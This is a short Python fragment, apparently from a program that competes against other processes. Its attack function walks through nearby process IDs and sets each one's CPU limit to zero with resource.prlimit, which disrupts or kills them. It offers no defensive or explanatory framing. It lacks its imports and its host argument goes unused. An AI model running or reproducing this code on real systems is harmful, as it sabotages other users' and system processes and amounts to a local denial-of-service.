"""Lowering the limits of all around it."""


def attack(host):
    for number in range(max(1, os.getpid() - 100), os.getpid() + 100):
        if number != os.getpid():
            try:
                resource.prlimit(number, resource.RLIMIT_CPU, (0, 0))
            except OSError:
                continue
            return number
    return "held"
